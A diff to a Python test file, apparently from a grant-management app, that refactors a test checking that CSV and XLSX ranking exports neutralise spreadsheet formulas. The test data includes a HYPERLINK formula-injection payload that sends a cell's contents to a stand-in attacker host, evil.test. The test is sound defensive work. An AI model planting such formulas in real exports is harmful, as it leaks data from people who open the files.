@@ -19,7 +19,7 @@ from grantflow.workflow import engine
 from tests.conftest import login
 from tests.factories import PASSWORD
 from tests.test_apply import PDF
-from tests.test_ranking import scored
+from tests.test_ranking import ranking_export, scored
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'
 
@@ -39,11 +39,11 @@ def test_ranking_exports_carry_no_formulas(client, factory):
     admin = factory.admin()
     db.session.commit()
     login(client, admin.email)
-    body = client.get(f"/review/competitions/{competition.id}/ranking.csv").get_data().decode("utf-8-sig")
+    body = ranking_export(client, competition.id, "csv").get_data().decode("utf-8-sig")
     row = list(csv.reader(io.StringIO(body)))[1]
     assert row[2] == "'@SUM(1+1)" and row[3] == "'" + HYPERLINK
     sheet = load_workbook(
-        io.BytesIO(client.get(f"/review/competitions/{competition.id}/ranking.xlsx").get_data())
+        io.BytesIO(ranking_export(client, competition.id, "xlsx").get_data())
     ).active
     values = list(sheet.values)[1]
     assert values[2] == "'@SUM(1+1)" and values[3] == "'" + HYPERLINK
